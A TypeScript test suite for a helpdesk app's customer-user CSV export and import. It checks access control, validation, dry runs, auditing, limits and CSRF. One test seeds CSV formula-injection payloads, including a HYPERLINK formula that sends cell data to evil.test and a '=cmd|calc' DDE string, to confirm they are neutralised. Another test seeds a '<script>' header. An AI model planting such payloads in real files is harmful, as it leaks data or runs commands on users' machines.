import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import request from 'supertest';
import type { Actor } from '../../plugin/access/actor.js';
import { auditSubjectOf, cliSubject, type AuditSubject } from '../../plugin/audit/service.js';
import { createCustomerCsvService } from '../../plugin/customers/csv/csv-service.js';
import { LoketError } from '../../plugin/errors.js';
import { csrfFrom, signIn, startTestApp, unique, type TestAccount, type TestApp } from '../helpers/app.js';

type Row = Record<string, string>;

/** supertest hands text/csv over as decoded text; the BOM check needs the bytes. */
const asBuffer = (res: request.Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

const rowsOf = (csv: string): Row[] => parse<Row>(csv, { bom: true, columns: true });
const csvOf = (header: string[], rows: string[][]): string => stringify([header, ...rows]);

describe('customer users: CSV export and import', () => {
  let app: TestApp;
  let admin: TestAccount;
  let adminActor: Actor;
  let subject: AuditSubject;
  let adminToken: string;
  let agentToken: string;
  let keyUser: { login: string; password: string };
  const acme = unique('acme');
  const beta = unique('beta');

  const services = () => app.loket.container.services;

  async function tokenFor(account: TestAccount): Promise<string> {
    const issued = await services().apiTokens.issueFromOperator({ type: 'agent', id: account.id }, account.login, { name: 'csv' }, cliSubject());
    return issued.plain;
  }

  async function customer(prefix: string): Promise<string> {
    const customerId = unique(prefix);
    await services().customers.create(adminActor, { customerId, name: `${customerId} Ltd` }, subject);
    return customerId;
  }

  async function user(customerId: string, extra: Record<string, unknown> = {}): Promise<string> {
    const login = unique('cu');
    await services().customerUsers.create(adminActor, { login, firstName: 'Test', lastName: 'User', email: `${login}@example.test`, customerId, ...extra }, subject);
    return login;
  }

  const api = (method: 'get' | 'post', path: string, token = adminToken) => request(app.url)[method](`/api/v1${path}`).set('Authorization', `Bearer ${token}`);
  const exportCsv = (query = '', token = adminToken) => api('get', `/exports/customer-users${query}`, token).buffer(true).parse(asBuffer);
  const importCsv = (csv: string, dryRun: boolean, token = adminToken) =>
    api('post', `/imports/customer-users?dryRun=${dryRun}`, token).set('Content-Type', 'text/csv; charset=utf-8').send(csv);
  const userVia = (login: string) => api('get', `/customer-users/${encodeURIComponent(login)}`);

  before(async () => {
    // A search limit of 2 makes every export page through several searches.
    app = await startTestApp({ options: { customerUsers: { searchLimit: 2 } } });
    admin = await app.createAgent('admin');
    adminActor = (await services().actors.resolve({ type: 'agent', id: admin.id }, 'session'))!;
    subject = auditSubjectOf(adminActor, '127.0.0.1');
    adminToken = await tokenFor(admin);
    agentToken = await tokenFor(await app.createAgent('agent'));
    const map = await services().customerUsers.fieldMap();
    await services().backends.saveDbMap(adminActor, [...map, { key: 'room', label: 'Kamer', storage: 'extra.room' }], undefined, subject);
    for (const customerId of [acme, beta]) await services().customers.create(adminActor, { customerId, name: customerId }, subject);
    keyUser = { login: unique('key'), password: `pw-${unique('secret')}` };
    await services().customerUsers.create(
      adminActor,
      { login: keyUser.login, firstName: 'Key', lastName: 'User', email: `${keyUser.login}@example.test`, customerId: acme, keyUserOf: [acme], password: keyUser.password },
      subject,
    );
  });
  after(async () => {
    await app.close();
  });

  describe('GET /api/v1/exports/customer-users', () => {
    it('answers CSV with BOM, attachment headers and a column per map key (custom ones too), then the relations', async () => {
      const logins = [await user(acme), await user(acme), await user(beta, { customerIds: [acme] })];
      const res = await exportCsv().expect(200);
      expect(res.headers['content-type']).to.equal('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).to.equal(`attachment; filename="customer-users-${new Date().toISOString().slice(0, 10)}.csv"`);
      expect(res.headers['x-content-type-options']).to.equal('nosniff');
      const bytes = res.body as Buffer;
      expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      const header = text.slice(1, text.indexOf('\r\n')).split(',');
      const map = await services().customerUsers.fieldMap();
      expect(header).to.deep.equal([...map.map((r) => r.key), 'customerIds', 'keyUserOf', 'manager', 'validity']);
      expect(header).to.include('room');
      expect(text).to.not.match(/password|\$argon2/i);
      const rows = rowsOf(text);
      // More users than the search limit (2): every one is there, once.
      for (const login of logins) expect(rows.filter((r) => r.login === login), login).to.have.length(1);
      expect(rows.find((r) => r.login === logins[2])).to.include({ customerId: beta, customerIds: acme, validity: 'valid' });
      expect(rows.find((r) => r.login === keyUser.login)).to.include({ keyUserOf: acme, manager: '' });
    });

    it('neutralises cells starting with = + - @ TAB or CR', async () => {
      const customerId = await customer('formula');
      const login = await user(customerId, {
        firstName: '=HYPERLINK("http://evil.test/?"&A1,"click")',
        lastName: '+1',
        phone: '-2',
        city: '@SUM(A1:A9)',
        room: '=1+1',
        comment: 'fine = fine',
      });
      // Leading TAB and CR cannot come in through the forms (values are trimmed); a directory or an old database can.
      const { knex, tables } = app.loket.container;
      await knex(tables.customer_users).where({ login }).update({ street: '\t=cmd|calc', zip: '\r=2' });
      const row = rowsOf((await exportCsv(`?customerId=${customerId}`).expect(200)).body.toString('utf8'))[0]!;
      expect(row).to.include({
        login,
        firstName: `'=HYPERLINK("http://evil.test/?"&A1,"click")`,
        lastName: "'+1",
        phone: "'-2",
        city: "'@SUM(A1:A9)",
        room: "'=1+1",
        street: "'\t=cmd|calc",
        zip: "'\r=2",
        comment: 'fine = fine',
      });
    });

    it('exports only the users a key user may see', async () => {
      const mine = await user(acme);
      const alsoMine = await user(beta, { customerIds: [acme] });
      const theirs = await user(beta);
      const { agent } = await signIn(app, keyUser);
      const res = await agent.get('/api/v1/exports/customer-users').buffer(true).parse(asBuffer).expect(200);
      const logins = rowsOf(res.body.toString('utf8')).map((r) => r.login);
      expect(logins).to.include.members([mine, alsoMine, keyUser.login]);
      expect(logins).to.not.include(theirs);
      const admins = rowsOf((await exportCsv().expect(200)).body.toString('utf8')).map((r) => r.login);
      expect(admins).to.include(theirs);
    });

    it('filters by customerId, validity and search', async () => {
      const customerId = await customer('filter');
      const valid = await user(customerId);
      const invalid = await user(customerId, { validity: 'invalid' });
      const logins = async (query: string) => rowsOf((await exportCsv(query).expect(200)).body.toString('utf8')).map((r) => r.login).sort();
      expect(await logins(`?customerId=${customerId}`)).to.deep.equal([valid, invalid].sort());
      expect(await logins(`?customerId=${customerId}&validity=invalid`)).to.deep.equal([invalid]);
      expect(await logins(`?search=${valid}&customerId=&validity=`)).to.deep.equal([valid]);
    });

    it('lets agents export, and refuses bad queries (400) and anonymous callers (401)', async () => {
      await exportCsv('', agentToken).expect(200);
      for (const query of ['?validity=gone', '?customerId=a&customerId=b', '?colour=red']) {
        const res = await api('get', `/exports/customer-users${query}`).expect(400);
        expect(res.body.error.code, query).to.equal('validation_failed');
      }
      await request(app.url).get('/api/v1/exports/customer-users').expect(401);
    });

    it('refuses with 422 when more users match than one export may hold', async () => {
      const c = app.loket.container;
      const small = createCustomerCsvService({
        customerUsers: services().customerUsers,
        customers: services().customers,
        agentLoginExists: () => Promise.resolve(false),
        emailOwnerIds: () => Promise.resolve([]),
        emailUnique: c.config.customerUsers.emailUnique,
        pageSize: 2,
        maxExportRows: 2,
      });
      const err = await small.exportUsers(adminActor, {}).then(() => null, (e: unknown) => e);
      expect(err).to.be.instanceOf(LoketError);
      expect(err).to.include({ status: 422, code: 'export_too_large' });
      const customerId = await customer('cap');
      await user(customerId);
      const fits = await small.exportUsers(adminActor, { customerId });
      const rows: string[][] = [];
      for await (const row of fits.rows) rows.push(row);
      expect(rows).to.have.length(2);
    });
  });

  describe('POST /api/v1/imports/customer-users', () => {
    it('dry run: reports creates, updates, unchanged and row errors, and writes nothing', async () => {
      const existing = await user(acme, { phone: '111' });
      const same = await user(acme);
      const fresh = unique('new');
      const csv = csvOf(['login', 'firstName', 'lastName', 'email', 'customerId', 'phone'], [
        [fresh, 'Nieuw', 'Mens', `${fresh}@example.test`, acme, ''],
        [existing, 'Test', 'User', `${existing}@example.test`, acme, '222'],
        [same, 'Test', 'User', `${same}@example.test`, acme, ''],
        [unique('bad'), 'Bad', 'Row', `${unique('bad')}@example.test`, unique('nowhere'), ''],
      ]);
      const res = await importCsv(csv, true).expect(200);
      expect(res.body).to.include({ dryRun: true, rows: 4, creates: 1, updates: 1, unchanged: 1 });
      expect(res.body.errors).to.have.length(1);
      expect(res.body.errors[0]).to.include({ row: 5, field: 'customerId' });
      expect(res.body.errors[0].message).to.match(/no customer with ID/);
      expect(res.body.created).to.deep.equal([]);
      expect(res.body.changes).to.deep.equal([
        { row: 2, login: fresh, action: 'create', fields: ['firstName', 'lastName', 'email', 'customerId', 'login'] },
        { row: 3, login: existing, action: 'update', fields: ['phone'] },
      ]);
      await userVia(fresh).expect(404);
      expect((await userVia(existing).expect(200)).body.phone).to.equal('111');
    });

    it('updates only the columns a file has; an empty cell clears, a required one cannot be cleared', async () => {
      const customerId = await customer('partial');
      const kept = await user(customerId, { phone: '111', city: 'Oslo', room: 'B2' });
      const cleared = await user(customerId, { phone: '111', city: 'Bergen' });
      const required = await user(customerId);
      const csv = csvOf(['login', 'phone', 'lastName'], [
        [kept, '999', 'User'],
        [cleared, '', 'User'],
        [required, '', ''],
      ]);
      const dry = await importCsv(csv, true).expect(200);
      expect(dry.body.errors).to.deep.equal([{ row: 4, login: required, field: 'lastName', message: 'lastName is required.' }]);
      const res = await importCsv(csv.split('\n').slice(0, 3).join('\n'), false).expect(200);
      expect(res.body).to.include({ updates: 2, creates: 0 });
      expect((await userVia(kept).expect(200)).body).to.include({ phone: '999', city: 'Oslo', room: 'B2', customerId });
      expect((await userVia(cleared).expect(200)).body).to.include({ phone: null, city: 'Bergen' });
    });

    it('refuses a whole file with one bad row (422) and writes nothing', async () => {
      const existing = await user(acme, { phone: '111' });
      const fresh = unique('new');
      const csv = csvOf(['login', 'firstName', 'lastName', 'email', 'customerId', 'phone'], [
        [existing, 'Test', 'User', `${existing}@example.test`, acme, '333'],
        [fresh, 'Nieuw', 'Mens', `${fresh}@example.test`, acme, ''],
        [unique('bad'), 'Bad', 'Row', `${unique('bad')}@example.test`, unique('nowhere'), ''],
      ]);
      const res = await importCsv(csv, false).expect(422);
      expect(res.body.error).to.include({ code: 'import_has_errors' });
      expect(res.body).to.include({ rows: 3, creates: 1, updates: 1 });
      expect(res.body.errors.map((e: { row: number }) => e.row)).to.deep.equal([4]);
      await userVia(fresh).expect(404);
      expect((await userVia(existing).expect(200)).body.phone).to.equal('111');
      const audit = await api('get', `/audit?object=customer-user:${existing}`).expect(200);
      expect(audit.body.items.map((i: { action: string }) => i.action)).to.deep.equal(['customer-user.create']);
    });

    it('creates and updates users through the services, each change audited, a generated password shown once', async () => {
      const existing = await user(acme, { phone: '111', room: 'A1' });
      const generated = unique('gen');
      const given = unique('given');
      const password = `pw-${unique('import')}`;
      const csv = csvOf(['login', 'firstName', 'lastName', 'email', 'customerId', 'customerIds', 'phone', 'room', 'manager', 'password'], [
        [generated, 'Gerda', 'Gegenereerd', `${generated}@example.test`, acme, '', '', '', '', ''],
        [given, 'Geert', 'Gegeven', `${given}@example.test`, beta, acme, '+31 20 123', "'=B2", generated, password],
        [existing, 'Test', 'User', `${existing}@example.test`, acme, '', '222', '', '', ''],
      ]);
      const res = await importCsv(csv, false).expect(200);
      expect(res.body).to.include({ dryRun: false, rows: 3, creates: 2, updates: 1, unchanged: 0 });
      expect(res.body.errors).to.deep.equal([]);
      expect(res.body.created).to.have.length(2);
      expect(res.body.created[0].login).to.equal(generated);
      expect(res.body.created[0].generatedPassword).to.match(/^[A-Za-z0-9]{20}$/);
      expect(res.body.created[1]).to.deep.equal({ login: given });

      const created = (await userVia(given).expect(200)).body;
      expect(created).to.include({ customerId: beta, phone: '+31 20 123', room: '=B2', manager: generated, hasPassword: true });
      expect(created.customerIds).to.deep.equal([acme]);
      const updated = (await userVia(existing).expect(200)).body;
      expect(updated).to.include({ phone: '222', room: null });

      for (const [login, action] of [[generated, 'customer-user.create'], [given, 'customer-user.create'], [existing, 'customer-user.update']] as const) {
        const audit = await api('get', `/audit?object=customer-user:${login}`).expect(200);
        expect(audit.body.items[0], login).to.include({ action, actorLogin: admin.login, ip: '127.0.0.1' });
      }
      const change = (await api('get', `/audit?object=customer-user:${existing}`).expect(200)).body.items[0];
      expect(change.before).to.deep.equal({ phone: '111', room: 'A1' });
      expect(change.after).to.deep.equal({ phone: '222', room: null });

      // Both passwords work: the generated one (never mailed) and the one from the file.
      await signIn(app, { login: generated, password: res.body.created[0].generatedPassword as string });
      await signIn(app, { login: given, password });
    });

    it('round-trips an export unchanged', async () => {
      const customerId = await customer('trip');
      const other = await customer('trip-other');
      const boss = await user(customerId, { firstName: '=Boss', lastName: '-Baas', city: '@home', room: '+12' });
      await user(customerId, { manager: boss, customerIds: [other], keyUserOf: [other], phone: '+47 22 00 00 00', comment: 'line one\nline two, "quoted"' });
      await user(other, { customerIds: [customerId], validity: 'invalid-temporarily' });
      const exported = (await exportCsv(`?customerId=${customerId}`).expect(200)).body.toString('utf8');
      expect(rowsOf(exported)).to.have.length(3);
      const before = (await api('get', '/audit?limit=1').expect(200)).body.total as number;
      const res = await importCsv(exported, false).expect(200);
      expect(res.body).to.include({ rows: 3, creates: 0, updates: 0, unchanged: 3 });
      expect((await api('get', '/audit?limit=1').expect(200)).body.total).to.equal(before);
      // Excel in Dutch or Norwegian saves with semicolons: the same file reads the same.
      const semicolons = stringify(parse(exported, { bom: true }), { delimiter: ';' });
      expect((await importCsv(semicolons, true).expect(200)).body).to.include({ unchanged: 3, updates: 0 });
    });

    it('checks rows against each other: duplicate logins and e-mails, managers from earlier rows', async () => {
      const [a, b, c, d, f, g] = ['a', 'b', 'c', 'd', 'f', 'g'].map(unique) as [string, string, string, string, string, string];
      const shared = `${unique('shared')}@example.test`;
      const taken = await user(acme);
      const csv = csvOf(['login', 'firstName', 'lastName', 'email', 'customerId', 'manager'], [
        [a, 'A', 'A', `${a}@example.test`, acme, ''],
        [b, 'B', 'B', `${b}@example.test`, acme, a],
        [c, 'C', 'C', shared, acme, ''],
        [d, 'D', 'D', shared.toUpperCase(), acme, ''],
        [f, 'F', 'F', `${f}@example.test`, acme, g],
        [g, 'G', 'G', `${g}@example.test`, acme, ''],
        [a.toUpperCase(), 'A', 'A', `${a}2@example.test`, acme, ''],
        [unique('e'), 'E', 'E', `${taken}@example.test`, acme, ''],
        [admin.login, 'X', 'X', `${unique('x')}@example.test`, acme, ''],
        [taken, 'Test', 'User', `${taken}@example.test`, acme, taken],
      ]);
      const res = await importCsv(csv, true).expect(200);
      expect(res.body).to.include({ creates: 4, updates: 0, unchanged: 0 });
      const errors = res.body.errors.map((e: { row: number; field: string }) => [e.row, e.field]);
      expect(errors).to.deep.equal([[5, 'email'], [6, 'manager'], [8, 'login'], [9, 'email'], [10, 'login'], [11, 'manager']]);
    });

    it('refuses an unknown or repeated header and a file without login (400)', async () => {
      const unknown = await importCsv('login,firstName,shoeSize\njan,Jan,44\n', true).expect(400);
      expect(unknown.body.error).to.include({ code: 'validation_failed', field: 'shoeSize' });
      expect(unknown.body.error.message).to.match(/^shoeSize: not a customer-user column/);
      const twice = await importCsv('login,email,email\n', true).expect(400);
      expect(twice.body.error.field).to.equal('email');
      const noLogin = await importCsv('email,firstName\na@example.test,A\n', true).expect(400);
      expect(noLogin.body.error.field).to.equal('login');
      const hash = await importCsv('login,passwordHash\n', true).expect(400);
      expect(hash.body.error.field).to.equal('passwordHash');
    });

    it('refuses bodies that are not CSV, not UTF-8 or without dryRun (400)', async () => {
      await api('post', '/imports/customer-users?dryRun=true').send({ login: 'x' }).expect(400);
      await api('post', '/imports/customer-users?dryRun=true').set('Content-Type', 'text/csv').send(Buffer.from([0x6c, 0xf8, 0x0a])).expect(400);
      await api('post', '/imports/customer-users?dryRun=true').set('Content-Type', 'text/csv; charset=latin1').send('login\n').expect(400);
      for (const query of ['', '?dryRun=yes', '?dryRun=true&dryRun=false', '?dryRun=true&force=1']) {
        const res = await api('post', `/imports/customer-users${query}`).set('Content-Type', 'text/csv').send('login\n').expect(400);
        expect(res.body.error.code, query).to.equal('validation_failed');
      }
      await api('post', '/imports/customer-users?dryRun=true').set('Content-Type', 'text/csv').send('login\n"open\n').expect(400);
    });

    it('refuses a body over 5 MB and a file with too many rows (413)', async () => {
      const big = `login\n${'x'.repeat(5 * 1024 * 1024)}\n`;
      const res = await importCsv(big, true).expect(413);
      expect(res.body.error.code).to.equal('payload_too_large');
      const c = app.loket.container;
      const small = createCustomerCsvService({
        customerUsers: services().customerUsers,
        customers: services().customers,
        agentLoginExists: () => Promise.resolve(false),
        emailOwnerIds: () => Promise.resolve([]),
        emailUnique: c.config.customerUsers.emailUnique,
        pageSize: 2,
        maxImportRows: 2,
      });
      const err = await small.importUsers(adminActor, 'login\na\nb\nc\n', { dryRun: true }, subject).then(() => null, (e: unknown) => e);
      expect(err).to.be.instanceOf(LoketError);
      expect(err).to.include({ status: 413 });
    });

    it('refuses a real import that would create more users than one import may (each needs an argon2 hash)', async () => {
      const c = app.loket.container;
      const capped = createCustomerCsvService({
        customerUsers: services().customerUsers,
        customers: services().customers,
        agentLoginExists: () => Promise.resolve(false),
        emailOwnerIds: () => Promise.resolve([]),
        emailUnique: c.config.customerUsers.emailUnique,
        pageSize: 2,
        maxImportCreates: 1,
      });
      const [a, b] = [unique('capa'), unique('capb')];
      const csv = `login,email,customerId,firstName,lastName\n${a},${a}@example.test,${acme},A,A\n${b},${b}@example.test,${acme},B,B\n`;
      const dry = await capped.importUsers(adminActor, csv, { dryRun: true }, subject);
      expect(dry.report.creates).to.equal(2);
      const real = await capped.importUsers(adminActor, csv, { dryRun: false }, subject);
      expect(real.failure).to.include({ status: 422, code: 'too_many_creates' });
      await userVia(a).expect(404);
    });

    it('refuses agents and key users (403), and callers without credentials (401)', async () => {
      const res = await importCsv('login\nx\n', true, agentToken).expect(403);
      expect(res.body.error.code).to.equal('forbidden');
      const { agent, csrf } = await signIn(app, keyUser);
      await agent.post('/api/v1/imports/customer-users?dryRun=true').set('X-CSRF-Token', csrf).set('Content-Type', 'text/csv').send('login\nx\n').expect(403);
      await request(app.url).post('/api/v1/imports/customer-users?dryRun=true').set('Content-Type', 'text/csv').send('login\nx\n').expect(403);
      await request(app.url).post('/api/v1/imports/customer-users?dryRun=true').set('Authorization', 'Bearer lkt_nope').set('Content-Type', 'text/csv').send('login\nx\n').expect(401);
    });

    it('works with a session and the CSRF header', async () => {
      const { agent, csrf } = await signIn(app, admin);
      await agent.post('/api/v1/imports/customer-users?dryRun=true').set('Content-Type', 'text/csv').send('login\nx\n').expect(403);
      const res = await agent.post('/api/v1/imports/customer-users?dryRun=true').set('X-CSRF-Token', csrf).set('Content-Type', 'text/csv').send('login\nx\n').expect(200);
      expect(res.body.errors[0]).to.include({ row: 2, field: 'firstName' });
    });

    it('is described in the OpenAPI document', async () => {
      const doc = (await request(app.url).get('/api/v1/openapi.json').expect(200)).body;
      expect(doc.paths['/exports/customer-users'].get.responses).to.include.keys('200', '400', '401', '403', '422');
      const op = doc.paths['/imports/customer-users'].post;
      expect(op.responses).to.include.keys('200', '400', '403', '413', '422');
      expect(op.responses['200'].content['application/json'].schema.properties).to.include.keys('dryRun', 'creates', 'errors', 'created');
    });
  });

  describe('the import page', () => {
    const uploadCsv = (fresh: string) => csvOf(['login', 'firstName', 'lastName', 'email', 'customerId'], [[fresh, 'Page', 'User', `${fresh}@example.test`, acme]]);

    it('shows the form with an export link to admins only', async () => {
      const { agent } = await signIn(app, admin);
      const page = await agent.get('/customer-users/import').expect(200);
      expect(page.text).to.contain('enctype="multipart/form-data"').and.contain('name="_csrf"');
      expect(page.text).to.match(/<input type="checkbox" name="dryRun" value="1" checked/);
      expect(page.text).to.contain('href="/api/v1/exports/customer-users"').and.contain('Export CSV');
      const plain = await app.createAgent('agent');
      await (await signIn(app, plain)).agent.get('/customer-users/import').expect(403);
      const visitor = await request(app.url).get('/customer-users/import').expect(303);
      expect(visitor.headers.location).to.equal('/login?returnTo=%2Fcustomer-users%2Fimport');
    });

    it('refuses an upload without the CSRF token (403) and imports nothing', async () => {
      const { agent } = await signIn(app, admin);
      const fresh = unique('nocsrf');
      await agent.post('/customer-users/import').attach('file', Buffer.from(uploadCsv(fresh)), 'users.csv').expect(403);
      await agent.post('/customer-users/import').field('_csrf', 'wrong').attach('file', Buffer.from(uploadCsv(fresh)), 'users.csv').expect(403);
      await userVia(fresh).expect(404);
    });

    it('runs a dry run, then an import that shows the generated password once', async () => {
      const { agent } = await signIn(app, admin);
      const csrf = csrfFrom((await agent.get('/customer-users/import').expect(200)).text);
      const fresh = unique('page');
      const dry = await agent.post('/customer-users/import').field('_csrf', csrf).field('dryRun', '1').attach('file', Buffer.from(`\uFEFF${uploadCsv(fresh)}`), 'users.csv').expect(200);
      expect(dry.text).to.contain('Dry run report').and.contain('No errors.');
      expect(dry.text).to.match(/<dt>New users<\/dt><dd>1<\/dd>/);
      await userVia(fresh).expect(404);

      const real = await agent.post('/customer-users/import').field('_csrf', csrf).attach('file', Buffer.from(uploadCsv(fresh)), 'users.csv').expect(200);
      expect(real.text).to.contain('Import result');
      const password = /<td>([^<]+)<\/td>\s*<td><code class="secret">([A-Za-z0-9]{20})<\/code>/.exec(real.text);
      expect(password?.[1]).to.equal(fresh);
      await userVia(fresh).expect(200);
      await signIn(app, { login: fresh, password: password![2]! });
    });

    it('lists row errors first and refuses the file (422); shows unreadable files on the form', async () => {
      const { agent } = await signIn(app, admin);
      const csrf = csrfFrom((await agent.get('/customer-users/import').expect(200)).text);
      const fresh = unique('pagebad');
      const csv = csvOf(['login', 'firstName', 'lastName', 'email', 'customerId'], [
        [fresh, 'Good', 'Row', `${fresh}@example.test`, acme],
        [unique('bad'), '<b>Bad</b>', 'Row', 'not-an-address', acme],
      ]);
      const res = await agent.post('/customer-users/import').field('_csrf', csrf).attach('file', Buffer.from(csv), 'users.csv').expect(422);
      expect(res.text).to.contain('rows have errors; nothing was imported');
      expect(res.text.indexOf('1 row with an error')).to.be.above(-1).and.below(res.text.indexOf('1 change'));
      expect(res.text).to.match(/<td>3<\/td>\s*<td>[^<]+<\/td>\s*<td>email<\/td>/);
      await userVia(fresh).expect(404);

      const header = await agent.post('/customer-users/import').field('_csrf', csrf).field('dryRun', '1').attach('file', Buffer.from('login,<script>\n'), 'x.csv').expect(400);
      expect(header.text).to.contain('&lt;script&gt;: not a customer-user column').and.not.contain('<script>:');
      const none = await agent.post('/customer-users/import').field('_csrf', csrf).field('dryRun', '1').expect(400);
      expect(none.text).to.contain('Choose a CSV file to upload.');
    });

    it('refuses a file over 5 MB (413) and a second file (400)', async () => {
      const { agent } = await signIn(app, admin);
      const csrf = csrfFrom((await agent.get('/customer-users/import').expect(200)).text);
      const big = Buffer.alloc(5 * 1024 * 1024 + 1, 'x');
      await agent.post('/customer-users/import').field('_csrf', csrf).attach('file', big, 'big.csv').expect(413);
      await agent
        .post('/customer-users/import')
        .field('_csrf', csrf)
        .attach('file', Buffer.from('login\n'), 'a.csv')
        .attach('other', Buffer.from('login\n'), 'b.csv')
        .expect(400);
    });
  });
});
